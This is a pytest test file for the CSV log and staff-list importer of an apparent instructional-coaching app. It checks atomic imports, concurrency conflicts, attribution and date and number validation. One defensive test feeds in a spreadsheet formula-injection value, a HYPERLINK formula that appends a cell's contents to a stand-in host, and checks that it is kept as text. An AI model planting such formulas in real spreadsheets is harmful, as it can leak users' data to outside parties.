"""A file is taken whole or not at all; who decided and who typed is never guessed in a coach's favour."""

from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import attrs
import pytest

import instructional_coaching as ic
from instructional_coaching import Actor
from instructional_coaching.domain.transition import Entry
from instructional_coaching.errors import (
    ConcurrencyConflict,
    FileRefused,
    InvalidInput,
    InvalidValue,
    StorageUnavailable,
)
from instructional_coaching.journal.importing import staff_lists_first
from instructional_coaching.journal.table import read_table
from instructional_coaching.storage import Document, Key, Query, StorageBackend, Write
from instructional_coaching.storage.memory import MemoryBackend
from tests.journal.term import NOW, TERM, School, Sheet, only, told, written

STEWARD = Actor("office", steward=True)
COLUMNS = "when,by,recorded_by,do,id,relationship,coach,coachee,goal,statement,focus"
BEGUN = "2025-09-04,head,,relationship.begin,r1,,amara,ben,,,"
PROPOSED = "2025-09-05,amara,,goal.propose,g1,r1,,,,All think.,student"
ADOPTED = "2025-09-06,ben,,goal.adopt,,,,,g1,,"


@pytest.fixture
def school() -> School:
    return School().with_staff()


@attrs.define
class Raced(StorageBackend):
    """A store in which somebody else acts just after a goal was read."""

    inner: StorageBackend
    rival: Callable[[], None] | None

    def get(self, keys: Sequence[Key]) -> Sequence[Document | None]:
        found = self.inner.get(keys)
        if self.rival and keys[0].kind == "goal":
            act, self.rival = self.rival, None
            act()
        return found

    def find(self, query: Query) -> Iterator[Document]:
        return self.inner.find(query)

    def commit(self, writes: Sequence[Write]) -> None:
        self.inner.commit(writes)

    def close(self) -> None:
        self.inner.close()


def adopted(school: School) -> Entry:
    """Return the entry with which the goal was adopted."""
    with school.workspace.unit(STEWARD) as unit:
        return next(one.entry for one in unit.history(ic.Goal, "g1") if one.entry.verb == "goal.adopt")


def test_one_mistake_at_the_end_keeps_out_all_that_comes_before(school: School, tmp_path: Path) -> None:
    before = school.documents()
    with pytest.raises(FileRefused):
        school.take(Sheet.of(COLUMNS, BEGUN, PROPOSED, ADOPTED[:-4] + "g2,,").write(tmp_path / "log.csv"))
    assert school.documents() == before


def test_a_log_that_has_been_taken_is_refused_the_second_time_and_nothing_changes(school: School) -> None:
    school.take(TERM / "log.csv")
    before = school.documents()
    with pytest.raises(FileRefused) as caught:
        school.take(TERM / "log.csv")
    assert school.documents() == before
    log = Sheet.read("log.csv")
    creates = {n for n in log.lines if log.get(n, "id")}
    there = {one.line for one in caught.value.problems if one.code == "already-exists"}
    assert there <= creates <= there | {*caught.value.not_checked}


def test_a_staff_list_that_has_been_taken_changes_nothing_the_second_time(school: School) -> None:
    before = school.documents()
    report = school.take(TERM / "staff.csv")
    assert (report.lines, report.verbs) == (len(Sheet.read("staff.csv").rows), ())
    assert school.documents() == before


def test_a_log_before_its_staff_list_is_refused(tmp_path: Path) -> None:
    """A head leads nobody's school before they are in its register."""
    with pytest.raises(FileRefused) as caught:
        School().take(Sheet.of(COLUMNS, BEGUN).write(tmp_path / "log.csv"))
    assert only(caught.value).code == "access-denied"


def test_staff_lists_come_first_and_the_rest_as_given(tmp_path: Path) -> None:
    headers = {"b.csv": "do,by,when", "staff.csv": "id", "a.csv": "when,by,do", "more.csv": "id,duties"}
    tables = [read_table(written(tmp_path, text, name)) for name, text in headers.items()]
    in_order = [one.source for one in staff_lists_first(tables)]
    assert in_order == ["staff.csv", "more.csv", "b.csv", "a.csv"]


def test_a_log_may_be_continued_in_another(school: School, tmp_path: Path) -> None:
    school.take(Sheet.of(COLUMNS, BEGUN, PROPOSED).write(tmp_path / "log.csv"))
    again = school.take(Sheet.of(COLUMNS, ADOPTED).write(tmp_path / "log.csv"))
    assert again.verbs == (("goal.adopt", 1),)


def test_if_somebody_saves_a_record_meanwhile_nothing_of_the_file_is_taken(
    school: School, tmp_path: Path
) -> None:
    school.take(Sheet.of(COLUMNS, BEGUN, PROPOSED).write(tmp_path / "log.csv"))
    before: list[Document] = []

    def rival() -> None:
        with school.workspace.unit(Actor("ben")) as unit:
            unit.save(unit.get(ic.Goal, "g1").share_focus(by="ben", when=NOW.date(), label="Questions"))
        before.extend(school.documents())

    slow = School(Raced(school.backend, rival))
    more = "2025-09-07,head,,relationship.begin,r2,,dev,mei,,,"
    with pytest.raises(ConcurrencyConflict) as caught:
        slow.take(Sheet.of(COLUMNS, more, ADOPTED).write(tmp_path / "log.csv"))
    assert caught.value.code == "concurrency-conflict"
    assert school.documents() == before
    assert slow.take(Sheet.of(COLUMNS, more, ADOPTED).write(tmp_path / "log.csv")).lines == 2


def test_a_store_that_fails_is_no_mistake_of_the_file(tmp_path: Path) -> None:
    backend = MemoryBackend()
    school = School(backend).with_staff()
    backend.close()
    with pytest.raises(StorageUnavailable):
        school.take(Sheet.of(COLUMNS, BEGUN).write(tmp_path / "log.csv"))


def test_an_empty_cell_for_who_typed_it_means_they_themselves(school: School, tmp_path: Path) -> None:
    report = school.take(Sheet.of(COLUMNS, BEGUN, PROPOSED, ADOPTED).write(tmp_path / "log.csv"))
    assert (adopted(school).by, adopted(school).recorded_by, report.unconfirmed) == ("ben", "ben", 0)


def test_without_a_column_for_who_typed_it_whoever_imports_it_did(school: School, tmp_path: Path) -> None:
    """Then the coachee has yet to confirm every decision."""
    sheet = Sheet.of(COLUMNS, BEGUN, PROPOSED, ADOPTED)
    sheet.drop_column("recorded_by")
    report = school.take(sheet.write(tmp_path / "log.csv"), steward="secretary")
    assert (adopted(school).by, adopted(school).recorded_by, report.unconfirmed) == ("ben", "secretary", 1)
    with school.workspace.unit(Actor("ben")) as unit:
        (unsettled,) = unit.get(ic.Goal, "g1").unconfirmed
    assert unsettled.recorded_by == "secretary"


def test_the_coachee_alone_confirms_so_an_importer_cannot(school: School, tmp_path: Path) -> None:
    sheet = Sheet.of(COLUMNS, BEGUN, PROPOSED, ADOPTED, "2025-09-07,ben,,goal.confirm,,,,,g1,,")
    sheet.drop_column("recorded_by")
    with pytest.raises(FileRefused) as caught:
        school.take(sheet.write(tmp_path / "log.csv"))
    assert only(caught.value).line == 5


def test_without_a_column_for_when_it_was_typed_it_was_now(school: School, tmp_path: Path) -> None:
    school.take(Sheet.of(COLUMNS, BEGUN, PROPOSED, ADOPTED).write(tmp_path / "log.csv"))
    assert adopted(school).logged == NOW


@pytest.mark.parametrize(
    ("cell", "logged"),
    [
        ("", datetime(2025, 9, 6, tzinfo=UTC)),
        ("2025-09-09", datetime(2025, 9, 9, tzinfo=UTC)),
        ("2025-09-09T16:05:00+01:00", datetime(2025, 9, 9, 16, 5, tzinfo=timezone(timedelta(hours=1)))),
    ],
    ids=["same-day", "day", "instant"],
)
def test_what_was_typed_later_keeps_the_day_on_which_it_was(
    school: School, tmp_path: Path, cell: str, logged: datetime
) -> None:
    rows = [f"{BEGUN},", f"{PROPOSED},", f"{ADOPTED},{cell}"]
    school.take(Sheet.of(f"{COLUMNS},logged", *rows).write(tmp_path / "log.csv"))
    assert adopted(school).logged == logged


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("2025-09-05", "not-yet"),
        ("2025-12-21", "invalid-value"),
        ("yesterday", "invalid-value"),
        ("2025-09-09T16:05:00", "invalid-value"),
    ],
    ids=["before-it-happened", "to-come", "no-day", "without-an-offset"],
)
def test_nothing_was_typed_before_it_happened_or_after_today(
    school: School, tmp_path: Path, cell: str, code: str
) -> None:
    rows = [f"{BEGUN},", f"{PROPOSED},", f"{ADOPTED},{cell}"]
    with pytest.raises(FileRefused) as caught:
        school.take(Sheet.of(f"{COLUMNS},logged", *rows).write(tmp_path / "log.csv"))
    problem = only(caught.value)
    assert (problem.line, problem.code) == (4, code)
    assert problem.column == (1 if code == "not-yet" else 12)


@pytest.mark.parametrize("column", ["when", "by", "do"])
def test_every_line_of_a_log_says_who_did_what_and_when(school: School, tmp_path: Path, column: str) -> None:
    sheet = Sheet.of(f"{COLUMNS},logged", f"{BEGUN},", f"{PROPOSED},", f"{ADOPTED},")
    sheet.set(4, column, "")
    with pytest.raises(FileRefused) as caught:
        school.take(sheet.write(tmp_path / "log.csv"))
    assert told(caught.value) == [(4, sheet.place(column), "missing-key")]
    assert only(caught.value).message == "is empty"


def test_a_staff_list_says_who_joined_when_and_the_importer_entered_them(tmp_path: Path) -> None:
    school = School()
    text = "id;duties;early_career_year;when\nhead;leader;;2019-09-02\nzoe;;2;\n"
    report = school.take(written(tmp_path, text, "staff.csv"), steward="secretary")
    assert report.verbs == (("person.join", 2),)
    with school.workspace.unit(Actor("secretary", steward=True)) as unit:
        head, zoe = unit.get(ic.Person, "head"), unit.get(ic.Person, "zoe")
        (entry,) = (one.entry for one in unit.history(ic.Person, "head"))
    assert (head.since.isoformat(), [*head.duties], head.early_career_year) == (
        "2019-09-02",
        ["leader"],
        None,
    )
    assert (zoe.since, zoe.early_career_year) == (NOW.date(), 2), "today, where no day is given"
    assert (entry.by, entry.recorded_by) == ("secretary", "secretary")


def test_a_file_without_lines_brings_in_nothing(school: School, tmp_path: Path) -> None:
    before = school.documents()
    report = school.take(written(tmp_path, f"{COLUMNS}\n\n"))
    assert (report.lines, report.verbs, report.unconfirmed) == (0, (), 0)
    assert school.documents() == before


def test_text_that_a_spreadsheet_would_run_is_kept_as_text(school: School, tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://a.example?"&A1)'
    sheet = Sheet.of(COLUMNS, BEGUN, PROPOSED)
    sheet.set(3, "statement", formula)
    school.take(sheet.write(tmp_path / "log.csv"))
    with school.workspace.unit(Actor("ben")) as unit:
        assert unit.get(ic.Goal, "g1").statement == formula


@pytest.mark.parametrize("minutes", ["601", "0", "-5", "9" * 18, "9" * 400, "1e2", "30.0", "٣٠", "½", "NaN"])
def test_a_number_of_minutes_is_a_whole_one_from_1_to_600(
    school: School, tmp_path: Path, minutes: str
) -> None:
    sheet = Sheet.of(
        "when,by,do,id,relationship,coach,coachee,kind,minutes",
        "2025-09-04,head,relationship.begin,r1,,amara,ben,,",
        f"2025-09-05,amara,session.log,s1,r1,,,conversation,{minutes}",
    )
    with pytest.raises(FileRefused) as caught:
        school.take(sheet.write(tmp_path / "log.csv"))
    assert told(caught.value) == [(3, 9, "invalid-value")]


@pytest.mark.parametrize(
    "value", ["1e400", "9" * 16, "0." + "1" * 13, "NaN", "-Infinity", "sNaN", "2,7", "0x10"]
)
def test_a_value_is_an_exact_number_of_at_most_15_digits(school: School, tmp_path: Path, value: str) -> None:
    columns = "when;by;do;id;relationship;coach;coachee;goal;statement;focus;measure;value"
    rows = [
        "2025-09-04;head;relationship.begin;r1;;amara;ben;;;;;",
        "2025-09-05;ben;goal.propose;g1;r1;;;;x;student;rate pupils up;",
        f"2025-09-05;ben;data_point.record;d1;r1;;;g1;;;;{value}",
    ]
    with pytest.raises(FileRefused) as caught:
        school.take(written(tmp_path, "\n".join([columns, *rows])))
    assert told(caught.value) == [(4, 12, "invalid-value")]


def test_whoever_imports_has_an_id(tmp_path: Path) -> None:
    with pytest.raises(InvalidValue):
        School().take(written(tmp_path, "id\nben\n"), steward="the office")


def test_a_path_that_leads_nowhere_is_told_before_anything_is_done(tmp_path: Path) -> None:
    school = School()
    with pytest.raises(InvalidInput) as caught:
        school.take(tmp_path / "absent.csv")
    assert (caught.value.code, only(caught.value).code) == ("invalid-input", "unreadable")
    assert school.documents() == []
